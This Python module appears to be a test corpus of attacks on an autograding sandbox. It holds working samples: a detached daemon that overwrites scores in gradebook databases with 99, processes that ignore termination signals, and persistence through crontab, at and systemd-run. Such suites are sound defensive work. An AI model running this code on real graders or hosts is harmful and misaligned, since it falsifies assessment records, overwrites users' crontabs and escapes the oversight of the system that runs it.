"""Attacks that go on when their kernel has ended. Their answers are right, and keep all points."""

from attacks.corpus import attack
from gradings import ALL


@attack("graded", ALL)
def leaves_a_daemon():
    """Forks twice, in a session of its own, to write 99 points into every gradebook for an hour."""
    import os
    import sqlite3
    import time

    def raise_marks():
        for folder, _, names in os.walk(os.path.abspath("../../..")):
            if "gradebook.db" in names:
                with sqlite3.connect(f"{folder}/gradebook.db", timeout=1) as database:
                    database.execute("UPDATE grade SET auto_score = 99")

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            for _ in range(3600):
                try:
                    raise_marks()
                except sqlite3.Error:
                    pass
                time.sleep(1)
        os._exit(0)


@attack("graded", ALL)
def leaves_a_program():
    """Starts a program that ignores every signal it can."""
    import subprocess

    subprocess.Popen(
        ["sh", "-c", "trap '' HUP INT TERM; sleep 7777; sleep 7777"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


@attack("graded", ALL)
def refuses_to_end():
    """Ignores the signals that end a kernel, and loops when Python ends."""
    import atexit
    import signal
    import threading
    import time

    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
        signal.signal(number, signal.SIG_IGN)
    atexit.register(lambda: time.sleep(7777))
    threading.Thread(target=time.sleep, args=(7777,)).start()


@attack("graded", ALL)
def asks_others_to_run_it_later():
    """Hands itself to cron, at and systemd."""
    import os

    for command in (
        "echo '* * * * * true' | crontab -",
        "echo true | at now + 1 minute",
        "systemd-run --user --on-active=60 true",
    ):
        if os.system(f"({command}) > /dev/null 2>&1") == 0:
            print("FOUND a way to be run later:", command)
